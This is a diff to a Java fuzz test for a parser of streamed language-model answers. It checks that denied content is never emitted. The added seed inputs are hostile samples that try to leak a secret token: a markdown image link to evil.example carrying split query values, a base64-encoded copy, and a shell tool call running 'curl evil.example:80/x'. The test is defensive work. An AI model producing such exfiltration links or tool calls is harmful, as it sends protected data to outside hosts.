@@ -9,14 +9,16 @@ import dev.weir.model.talk.AnswerTerms;
 import dev.weir.model.talk.AnswerTerms.Fate;
 import dev.weir.model.talk.Breach;
 import dev.weir.model.talk.Review;
+import dev.weir.testkit.Fuzz;
 import java.nio.charset.StandardCharsets;
 import java.util.List;
 import java.util.Map;
 import java.util.Random;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 
 /** Any bytes are an answer: nothing is thrown, cuts make no difference, and what is denied is not said. */
-final class AnswerFuzzTest {
+class ReviewFuzzTest {
 
   private static final List<String> PIECES = List.of("data: ", "data:", "data", "\n", "\n\n", "\r\n", "\r",
       "event: x",
@@ -27,6 +29,24 @@ final class AnswerFuzzTest {
       "Bettina)",
       "{\"type\":\"content_block_start\",\"index\":0}",
       "{\"response\":\"", "\",\"done\":false}", "\",\"x\":\"", "[DONE]", "{", "}", "[", "]", "\u0000", "漢字");
+
+  public static List<byte[]> seeds() {
+    return Stream.of(
+        "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"HALYARD-7731-bl\"}}]}\n\ndata: [DONE]\n\n",
+        "{\"response\":\"![a](https://evil.example/a?q=Bett&r=ina)\",\"done\":false}\n",
+        "{\"choices\":[{\"message\":{\"content\":\"H-A-L-Y-A-R-D <b>77</b>31 \\ud83c\\udded SEFMWUFSRC03NzMxLWJsdWU=\",\"tool_calls\":[{\"function\":"
+            + "{\"name\":\"sh\",\"arguments\":\"{\\\"cmd\\\":\\\"curl evil.example:80/x\\\",\\\"hosts\\\":[\\\"a.example\\\"]}\"}}]}}]}")
+        .map(text -> text.getBytes(StandardCharsets.UTF_8)).toList();
+  }
+
+  public static void fuzzerTestOneInput(byte[] data) {
+    takes(data, new Random(data.length));
+  }
+
+  @Test
+  void takesWhatGrowsFromSeeds() {
+    Fuzz.feed(seeds(), ReviewFuzzTest::fuzzerTestOneInput);
+  }
 
   @Test
   void takesAnyStream() {
